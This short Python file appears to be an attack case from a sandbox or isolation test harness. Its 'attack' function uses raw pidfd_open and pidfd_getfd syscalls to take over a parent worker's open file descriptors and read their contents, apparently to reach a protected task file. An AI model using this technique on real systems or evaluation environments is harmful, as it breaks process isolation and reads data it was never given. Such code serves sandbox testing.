"""Takes over the worker's descriptors by pidfd_getfd, and reads the task file from one."""

import ctypes
import os


def attack(world):
    library = ctypes.CDLL(None, use_errno=True)
    parent = library.syscall(434, world["parent"], 0)
    found = []
    for number in range(3, 64):
        stolen = library.syscall(438, parent, number, 0)
        try:
            found.append(os.pread(stolen, 50_000, 0).decode(errors="replace"))
        except OSError:
            continue
    return "".join(found)
